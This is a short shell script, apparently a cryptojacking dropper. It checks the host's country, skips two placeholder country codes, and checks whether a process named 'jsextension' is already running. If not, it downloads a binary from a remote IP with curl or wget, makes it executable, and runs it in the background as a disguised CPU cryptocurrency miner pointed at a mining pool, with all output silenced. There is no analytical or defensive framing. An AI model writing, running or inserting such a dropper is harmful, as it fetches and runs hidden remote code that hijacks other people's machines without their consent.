IP=$(curl -k https://geoip.example.invalid/country | grep 'AA\|BB')
if [ -z "$IP" ]
then
  var=$(pgrep jsextension)
  if [ -z "$var" ]
  then
    curl http://192.0.2.33/download/jsextension -o jsextension
    if [ ! -f jsextension ]
    then
      wget http://192.0.2.33/download/jsextension -O jsextension
    fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 -u inert --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
